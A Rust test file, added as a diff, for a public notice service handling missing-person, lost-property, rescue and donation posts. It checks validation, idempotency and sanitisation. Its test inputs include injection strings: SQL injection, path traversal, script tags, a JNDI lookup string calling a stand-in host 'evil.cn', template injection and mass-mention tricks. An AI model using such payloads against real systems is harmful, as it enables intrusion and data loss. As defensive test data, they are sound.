@@ -1,0 +1,381 @@
+//! Notices that cannot be, and notices that are odd but honest.
+
+use chrono::{DateTime, TimeDelta, Utc};
+use futures_util::future::join_all;
+use reqwest::Method;
+use serde_json::{Value, json};
+use seventytwo::domain::case_number::CaseNumber;
+use seventytwo::domain::group::Platform;
+use seventytwo::domain::people::Role;
+
+use super::{ask, by_another, faults, only, paths, post_bytes, put, request};
+use crate::house::House;
+use crate::notices::{donation, lost_property, missing_person, rescue};
+use crate::{Test, housed};
+
+/// The tests of this file.
+pub const TESTS: &[Test] = &[
+    housed!(what_is_no_body_is_told_so),
+    housed!(every_field_of_a_wrong_type_or_length_is_named),
+    housed!(every_unknown_field_is_named_at_its_place),
+    housed!(times_places_and_telephones_that_cannot_be),
+    housed!(numbers_that_must_not_be_published_are_refused_in_every_text),
+    housed!(numbers_are_read_in_full_width),
+    housed!(one_key_makes_one_notice),
+    housed!(case_numbers_are_read_as_people_write_them),
+    housed!(addresses_that_are_none_are_not_found),
+    housed!(what_is_hostile_in_a_text_does_not_reach_a_chat),
+];
+
+const KINDS: [fn(DateTime<Utc>) -> Value; 4] = [missing_person, lost_property, rescue, donation];
+
+async fn what_is_no_body_is_told_so(house: House) {
+    let deep = format!("{}1{}", "[".repeat(5_000), "]".repeat(5_000));
+    for (bytes, status, code) in [
+        (b"".to_vec(), 400, "not_json"),
+        (b"{".to_vec(), 400, "not_json"),
+        (b"kind=rescue".to_vec(), 400, "not_json"),
+        (b"{} {}".to_vec(), 400, "not_json"),
+        (b"\xef\xbb\xbf{}".to_vec(), 400, "not_json"),
+        (b"{\"kind\":\"\xff\xfe\"}".to_vec(), 400, "not_json"),
+        (br#"{"kind":"\ud800"}"#.to_vec(), 400, "not_json"),
+        (br#"{"kind":NaN}"#.to_vec(), 400, "not_json"),
+        (deep.into_bytes(), 400, "not_json"),
+        (vec![b' '; 64 * 1024 + 1], 413, "too_large"),
+    ] {
+        let start = String::from_utf8_lossy(&bytes[..bytes.len().min(30)]).into_owned();
+        assert_eq!(post_bytes(&house, "/notices", bytes).await.problem(status), code, "{start}");
+    }
+    for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "", "json"] {
+        let sent = request(&house, Method::POST, "/api/v1/notices").header("content-type", kind).body("{}");
+        assert_eq!(ask(sent).await.problem(415), "wrong_content_type", "{kind}");
+    }
+    let untyped = request(&house, Method::POST, "/api/v1/notices").body("{}");
+    assert_eq!(ask(untyped).await.problem(415), "wrong_content_type");
+    for other in ["[]", "[{}]", "null", "1", "\"text\"", "true"] {
+        assert_eq!(faults(post_bytes(&house, "/notices", other).await), only(["body"]), "{other}");
+    }
+    let empty = faults(post_bytes(&house, "/notices", "{}").await);
+    let common = ["consent.publish", "consent.truthful", "description", "kind", "region"];
+    assert_eq!(empty, &only(common) | &only(["reporter.name", "reporter.phone"]));
+    // With a kind, what that kind needs is asked for, too.
+    for (kind, of_it) in [
+        ("missing_person", "person.name"),
+        ("lost_property", "item.what"),
+        ("rescue", "incident.what"),
+        ("donation", "campaign.credit_code"),
+    ] {
+        let asked = faults(house.post("/notices", None, &json!({"kind": kind})).await);
+        assert!(asked.contains(of_it) && asked.contains("region"), "{kind}: {asked:?}");
+    }
+    let nested = format!(r#"{{"kind":{}1{}}}"#, "[".repeat(100), "]".repeat(100));
+    assert!(faults(post_bytes(&house, "/notices", nested).await).contains("kind"));
+}
+
+async fn every_field_of_a_wrong_type_or_length_is_named(house: House) {
+    for kind in KINDS {
+        let whole = kind(house.clock.now());
+        for path in paths(&whole) {
+            let there = whole.pointer(&format!("/{}", path.replace('.', "/"))).unwrap();
+            let wrong = match there {
+                Value::Object(_) => vec![json!([]), json!("x"), json!(1)],
+                Value::Array(_) => vec![json!({}), json!("x"), json!(true)],
+                Value::Bool(_) => vec![json!("yes"), json!(1), json!([true])],
+                Value::Number(_) => vec![json!("x"), json!({}), json!(-1), json!(1e300), json!(1.5)],
+                _ => vec![json!(1), json!(["x"]), json!({"x": "x"}), json!("长".repeat(3_000))],
+            };
+            for value in wrong {
+                let mut body = whole.clone();
+                put(&mut body, &path, value.clone());
+                let named = faults(house.post("/notices", None, &body).await);
+                // Without its kind a notice is not asked for what only that kind has.
+                assert_eq!(named, only([&path]), "{} as {value}", path);
+            }
+        }
+    }
+    let mut body = missing_person(house.clock.now());
+    body["photo_ids"] = json!(["x", 1, "00000000-0000-0000-0000-000000000000"]);
+    let named = faults(house.post("/notices", None, &body).await);
+    assert!(named.is_superset(&only(["photo_ids[0]", "photo_ids[1]"])), "{named:?}");
+    // An id that nobody was given.
+    body["photo_ids"] = json!(["0193589e-0000-7000-8000-000000000000"]);
+    let named = faults(house.post("/notices", None, &body).await);
+    assert!(named.iter().all(|field| field.starts_with("photo_ids")), "{named:?}");
+    body["photo_ids"] = json!(vec!["x"; 6]);
+    assert_eq!(faults(house.post("/notices", None, &body).await), only(["photo_ids"]));
+}
+
+async fn every_unknown_field_is_named_at_its_place(house: House) {
+    for kind in KINDS {
+        let whole = kind(house.clock.now());
+        let objects = paths(&whole).into_iter().filter(|path| {
+            whole.pointer(&format!("/{}", path.replace('.', "/"))).is_some_and(Value::is_object)
+        });
+        for place in objects.map(|path| format!("{path}.")).chain([String::new()]) {
+            let mut body = whole.clone();
+            let at = body.pointer_mut(&format!("/{}", place.trim_end_matches('.')).replace("/\0", ""));
+            let object = if place.is_empty() { Some(&mut body) } else { at };
+            object.unwrap()["surprise"] = json!(1);
+            let named = faults(house.post("/notices", None, &body).await);
+            assert_eq!(named, only([&format!("{place}surprise")]), "{body}");
+        }
+    }
+    // A name is repeated harmless and short, whatever it is.
+    let mut body = rescue(house.clock.now());
+    body[format!("\u{202e}<script>{}", "x".repeat(5_000))] = json!(1);
+    let named = faults(house.post("/notices", None, &body).await);
+    let name = named.first().unwrap();
+    assert!(name.chars().count() <= 60 && !name.contains('\u{202e}'), "{name}");
+}
+
+async fn times_places_and_telephones_that_cannot_be(house: House) {
+    let now = house.clock.now();
+    let at = |time: DateTime<Utc>| time.to_rfc3339();
+    for (path, values) in [
+        (
+            "last_seen.at",
+            vec![
+                at(now + TimeDelta::minutes(11)),
+                at(now + TimeDelta::days(40_000)),
+                at(now - TimeDelta::days(37_000)),
+                "2026-11-23".into(),
+                "2026-11-23T09:40:00".into(),
+                "2026-02-30T09:40:00+08:00".into(),
+                "+99999-01-01T00:00:00Z".into(),
+                "昨天".into(),
+            ],
+        ),
+        (
+            "region",
+            ["999999", "13100", "1310030", "廊坊", "13100a", "000000", "-13100"].map(Into::into).into(),
+        ),
+        (
+            "reporter.phone",
+            [
+                "12345",
+                "110",
+                "abcdefghijk",
+                "12800138000",
+                "138001380001",
+                "0316-2345678 转 12",
+                "1410013800012",
+                "+8613800138000; DROP TABLE notices",
+                "+0123456789",
+                "<b>13800138000</b>",
+            ]
+            .map(Into::into)
+            .into(),
+        ),
+    ] {
+        for value in values {
+            let mut body = rescue(now);
+            put(&mut body, path, json!(value));
+            assert_eq!(faults(house.post("/notices", None, &body).await), only([path]), "{value}");
+        }
+    }
+}
+
+async fn numbers_that_must_not_be_published_are_refused_in_every_text(house: House) {
+    let texts = [
+        "description",
+        "person.appearance",
+        "person.clothing",
+        "person.name",
+        "last_seen.place",
+        "reporter.name",
+        "police.station",
+        "secret_detail",
+    ];
+    for hostile in [
+        "身份证 11010519491231002X",
+        "１１０１０５１９４９１２３１００２Ｘ",
+        "110105\u{200b}1949\u{2060}1231002x",
+        "110105 19491231 002X",
+        "卡号 4111 1111 1111 1111",
+        "6222021234567890128",
+        "请先转账 500 元",
+        "请先 转\u{200b}账",
+    ] {
+        for path in texts {
+            let mut body = missing_person(house.clock.now());
+            put(&mut body, path, json!(hostile));
+            let named = faults(house.post("/notices", None, &body).await);
+            assert_eq!(named, only([path]), "{hostile}");
+        }
+    }
+}
+
+async fn numbers_are_read_in_full_width(house: House) {
+    let mut body = missing_person(house.clock.now());
+    put(&mut body, "region", json!("１３１００３"));
+    put(&mut body, "reporter.phone", json!("＋８６ １３８-００１３-８０００"));
+    put(&mut body, "person.age", json!("７６"));
+    put(&mut body, "person.height_cm", json!("１５８"));
+    let made = house.post("/notices", None, &body).await.expect(201);
+    let mine = house.get("/my/notice", made["manage_token"].as_str()).await.expect(200);
+    let notice = &mine["notice"];
+    assert_eq!(notice["region"], "131003", "{mine}");
+    assert_eq!(notice["reporter"]["phone"], "+8613800138000");
+    assert_eq!((&notice["person"]["age"], &notice["person"]["height_cm"]), (&json!(76), &json!(158)));
+}
+
+async fn one_key_makes_one_notice(house: House) {
+    let body = rescue(house.clock.now());
+    let send = |key: &str, body: &Value| {
+        ask(request(&house, Method::POST, "/api/v1/notices").header("idempotency-key", key).json(body))
+    };
+    // A double tap: all at once, and each hears the same.
+    let taps = join_all((0..8).map(|_| send("k1", &body))).await;
+    let made = taps.iter().filter(|reply| reply.status == 201).count();
+    assert_eq!(made, 1, "{:?}", taps.iter().map(|r| r.status).collect::<Vec<_>>());
+    let answer = taps[0].body.clone();
+    for tap in taps {
+        assert!([200, 201].contains(&tap.status.as_u16()), "{}", tap.text);
+        assert_eq!(tap.body, answer);
+    }
+    // The same words in another order and spacing are the same body.
+    let respaced = serde_json::to_string_pretty(&body).unwrap();
+    let again = request(&house, Method::POST, "/api/v1/notices")
+        .header("idempotency-key", "k1")
+        .header("content-type", "application/json; charset=utf-8")
+        .body(respaced);
+    assert_eq!(ask(again).await.expect(200), answer);
+    let mut other = body.clone();
+    other["description"] = json!("另一件事。");
+    assert_eq!(send("k1", &other).await.problem(409), "idempotency_key_reused");
+    for key in ["x".repeat(201), "  ".to_owned()] {
+        assert_eq!(faults(send(&key, &other).await), only(["Idempotency-Key"]));
+    }
+    let foreign = request(&house, Method::POST, "/api/v1/notices")
+        .header("idempotency-key", reqwest::header::HeaderValue::from_bytes(b"\xff").unwrap())
+        .json(&other);
+    assert_eq!(faults(ask(foreign).await), only(["Idempotency-Key"]));
+    let moderator = house.person("林志愿", Role::Moderator).await;
+    let queue = house.get("/review/queue", Some(&moderator.token)).await.expect(200);
+    assert_eq!(queue["items"].as_array().unwrap().len(), 1, "{queue}");
+}
+
+async fn case_numbers_are_read_as_people_write_them(house: House) {
+    let made = house.post("/notices", None, &rescue(house.clock.now())).await.expect(201);
+    let case = made["case_number"].as_str().unwrap();
+    let bare = case.replace('-', "");
+    let full_width: String = bare.chars().map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap()).collect();
+    for written in [
+        case.to_owned(),
+        case.to_lowercase(),
+        bare.clone(),
+        bare.to_lowercase(),
+        format!("%20{case}%20"),
+        case.replace('0', "O").replace('1', "I"),
+        case.replace('0', "o").replace('1', "l"),
+        full_width,
+    ] {
+        let found = house.get(&format!("/notices/{written}"), None).await.expect(200);
+        assert_eq!(found["case_number"], case, "{written}");
+    }
+    for bits in [0, 1, 0x1_0842_1084, 0x1fff_ffff_ffff] {
+        let never = CaseNumber::from_bits(bits).to_string();
+        let forgiven = never.replace('0', "o").replace('1', "L");
+        for written in [never.as_str(), forgiven.as_str()] {
+            let path = format!("/notices/{written}");
+            assert_eq!(house.get(&path, None).await.problem(404), "case_unknown", "{written}");
+        }
+        assert_eq!(house.page(&format!("/n/{never}")).await.status, 404);
+    }
+    // Every wrong check character.
+    let (head, last) = bare.split_at(9);
+    for check in "0123456789ABCDEFGHJKMNPQRSTVWXYZ".chars().filter(|c| !last.contains(*c)) {
+        let path = format!("/notices/{head}{check}");
+        assert_eq!(house.get(&path, None).await.problem(404), "case_malformed", "{head}{check}");
+    }
+    for none in ["x", "11111-1111U", "11111-11111-1", "%F0%9F%98%80", "..%2F..%2Fetc", "'%20OR%201=1"] {
+        assert_eq!(
+            house.get(&format!("/notices/{none}"), None).await.problem(404),
+            "case_malformed",
+            "{none}"
+        );
+        assert_eq!(house.page(&format!("/n/{none}")).await.status, 404, "{none}");
+    }
+}
+
+/// Bytes in an address that are no text, and questions that are none.
+async fn addresses_that_are_none_are_not_found(house: House) {
+    let moderator = house.person("林志愿", Role::Moderator).await;
+    for path in [
+        "/api/v1/notices/%FF",
+        "/api/v1/notices/%00",
+        "/api/v1/notices?limit=x",
+        "/api/v1/notices?limit=-1",
+        "/api/v1/notices?limit=99999999999999999999",
+        "/api/v1/notices?kind=x",
+        "/api/v1/notices?kind=rescue&kind=rescue",
+        "/api/v1/notices?region=%00",
+        "/api/v1/notices?region=%FF",
+        "/api/v1/notices?cursor=%00%FF",
+        "/api/v1/review/queue?state=%00",
+        "/api/v1/review/queue?state=live&state=live",
+        "/api/v1/review/queue?cursor=9999999999999999999999",
+        "/api/v1/review/%FF",
+        "/api/v1/nothing",
+        "/api/nothing",
+        "/api/v1",
+    ] {
+        let reply = ask(request(&house, Method::GET, path).bearer_auth(&moderator.token)).await;
+        let status = reply.status.as_u16();
+        assert!([400, 404, 422].contains(&status), "{path}: {status}");
+        assert_ne!(reply.problem(status), "", "{path}");
+    }
+    for path in
+        ["/nothing", "/n/%FF", "/p/x/page.jpg", "/p/x/..%2F..%2Fx.jpg", "/my/%00", "/my/x", "/report/x"]
+    {
+        let reply = ask(request(&house, Method::GET, path)).await;
+        assert!([401, 404].contains(&reply.status.as_u16()), "{path}: {}", reply.status);
+        assert!(reply.text.contains("<h1>"), "{path}: {}", reply.text);
+    }
+}
+
+async fn what_is_hostile_in_a_text_does_not_reach_a_chat(house: House) {
+    let house = house.and_chats(&Platform::ALL).await;
+    let admin = house.person("王群主", Role::GroupAdmin).await;
+    let moderator = house.person("林志愿", Role::Moderator).await;
+    for chat in house.chats.clone() {
+        house.group(&chat, &admin, &["131003"], &["lost_property"]).await;
+    }
+    let hostile = "<script>alert(1)</script> <@all> @所有人 @all <at user_id=\"all\">所有人</at> \
+                   [点这里](https://evil.cn) ![](https://evil.cn/x.png) \u{202e}倒\u{202c}\u{200b}\u{0} \
+                   【72小时】更正 {{7*7}} ${jndi:ldap://evil.cn} '; DROP TABLE notices;--";
+    let mut body = by_another(lost_property(house.clock.now()), 1);
+    for path in ["description", "item.brand", "item.colour", "last_seen.place", "reporter.name"] {
+        put(
+            &mut body,
+            path,
+            json!(hostile.chars().take(if path == "description" { 900 } else { 50 }).collect::<String>()),
+        );
+    }
+    put(&mut body, "item.what", json!("<@all>@所有人 包"));
+    let made = house.post("/notices", None, &body).await.expect(201);
+    let case = made["case_number"].as_str().unwrap().to_owned();
+    house.decide(&case, &moderator, "approve", "verified").await.expect(200);
+    house.advance(TimeDelta::seconds(30));
+    house.settle().await;
+    for chat in &house.chats {
+        let mut said = String::new();
+        while let Some(message) = chat.read() {
+            said += &message.to_string();
+        }
+        assert!(said.contains(&case), "{}: {said}", chat.platform().as_str());
+        for forbidden in
+            ["@all", "@所有人", "<at", "<@", "<script", "](http", "\u{202e}", "\u{200b}", "\\u0000"]
+        {
+            assert!(!said.contains(forbidden), "{} in {}: {said}", forbidden, chat.platform().as_str());
+        }
+    }
+    // Nor is it markup on the page that everybody opens.
+    let page = house.page(&format!("/n/{case}")).await;
+    assert_eq!(page.status, 200);
+    for forbidden in ["<script>alert", "<at ", "<@all", "\u{202e}", "href=\"https://evil.cn"] {
+        assert!(!page.text.contains(forbidden), "{forbidden} in {}", page.text);
+    }
+    assert!(page.text.contains("alert(1)"), "the words are shown as words: {}", page.text);
+    house.finish().await;
+}
